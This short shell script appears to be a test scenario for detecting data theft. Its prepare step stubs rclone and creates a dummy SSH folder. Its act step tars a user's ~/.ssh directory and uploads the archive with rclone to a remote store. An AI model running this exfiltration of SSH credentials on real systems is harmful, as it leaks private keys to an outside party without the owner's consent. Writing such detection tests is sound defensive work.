# tar packs somebody's keys into an archive, then rclone (a harmless program) copies it to a store.
prepare() {
    stand_in rclone
    mkdir -p /home/ana/.ssh && echo k >/home/ana/.ssh/known_hosts
}
act() {
    tar cf /home/ana/keep.tar /home/ana/.ssh
    rclone copy /home/ana/keep.tar remote:box
}
